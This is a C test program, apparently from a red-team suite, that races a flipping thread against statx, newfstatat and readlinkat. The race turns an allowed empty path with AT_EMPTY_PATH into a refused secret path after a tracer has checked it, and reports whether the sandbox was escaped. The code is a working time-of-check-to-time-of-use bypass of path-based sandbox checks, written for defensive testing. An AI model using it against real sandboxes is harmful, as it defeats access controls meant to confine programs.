/* race_empty: an empty path (AT_EMPTY_PATH: the call acts on its descriptor) rewritten into a
 * path by a sibling thread between the check and the call.
 *
 *   race_empty MODE SECRET [ITERATIONS [SECONDS]]
 *
 * The call is made on a buffer a second thread flips between "" and SECRET's absolute path;
 * "" with AT_EMPTY_PATH is the descriptor's own file (here the cwd, AT_FDCWD), decided as
 * the descriptor call it stands for (glibc's fstat): permitted.  When the kernel reads the
 * buffer after the tracer did, it looks SECRET up instead -- unless the checked "" was held.
 *
 * MODE: statx      statx(AT_FDCWD, buf, AT_EMPTY_PATH): ESCAPED when it reports SECRET's inode
 *       fstatat    newfstatat(AT_FDCWD, buf, AT_EMPTY_PATH): the same
 *       readlinkat readlinkat(AT_FDCWD, buf): "" is the cwd (decided by its name; not a
 *                  link: ENOENT); SECRET a symlink in the refused directory whose target
 *                  holds "SECRET": ESCAPED when that target is read
 * Class 2 (races between check and use): red team 2 of issue 11, the native loop.
 */
#include "race.h"

#include <linux/stat.h>

static char buf[4096] __attribute__((aligned(4096)));
static char secret_path[4096];
static volatile int stop;
static volatile long flips;

static void *flipper(void *arg) {
    (void)arg;
    memcpy(buf + 1, secret_path + 1, strlen(secret_path));
    while (!stop) {
        /* as long "" as the path: the check sees either */
        *(volatile char *)buf = 0;
        for (volatile int i = 0; i < 200; i++) {
        }
        *(volatile char *)buf = '/';
        for (volatile int i = 0; i < 200; i++) {
        }
        flips++;
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("race_empty MODE SECRET [ITERATIONS [SECONDS]]");
    const char *mode = argv[1];
    if (strcmp(mode, "statx") && strcmp(mode, "fstatat") && strcmp(mode, "readlinkat"))
        usage("MODE: statx fstatat readlinkat");
    snprintf(secret_path, sizeof secret_path, "%s", argv[2]);
    if (secret_path[0] != '/')
        usage("SECRET: an absolute path");
    struct budget budget;
    budget_args(&budget, argc, argv, 3);
    unsigned long long secret_ino = env_ull("ESC_SECRET_INO");
    struct stat cwd;
    stat(".", &cwd);
    pthread_t th;
    pthread_create(&th, NULL, flipper, NULL);
    wait_for_peer(&flips);
    budget.start = now_s();
    long empty = 0, other = 0, failed = 0;
    int hit = 0;
    while (budget_left(&budget) && !hit) {
        unsigned long long ino;
        long rc;
        if (!strcmp(mode, "readlinkat")) {
            char target[256];
            rc = readlinkat(AT_FDCWD, buf, target, sizeof target - 1);
            if (rc > 0) {
                target[rc] = 0;
                if (strstr(target, "SECRET"))
                    hit = 1;
                else
                    other++;
            } else
                failed++;
            continue;
        }
        if (!strcmp(mode, "statx")) {
            struct statx sx;
            rc = syscall(SYS_statx, AT_FDCWD, buf, AT_EMPTY_PATH, STATX_INO, &sx);
            ino = sx.stx_ino;
        } else {
            struct stat st;
            rc = syscall(SYS_newfstatat, AT_FDCWD, buf, &st, AT_EMPTY_PATH);
            ino = st.st_ino;
        }
        if (rc < 0)
            failed++;
        else if (ino == (unsigned long long)cwd.st_ino)
            empty++;
        else if (secret_ino && ino == secret_ino)
            hit = 1;
        else
            other++;
    }
    stop = 1;
    pthread_join(th, NULL);
    note("%ld calls: %ld on the cwd, %ld refused or failed, %ld other", budget.done - 1, empty,
         failed, other);
    if (hit)
        escaped("a %s made on \"\" reached the secret%s", mode,
                !strcmp(mode, "readlinkat") ? " (its link target)" : " (its inode)");
    blocked("no call reached the secret");
}
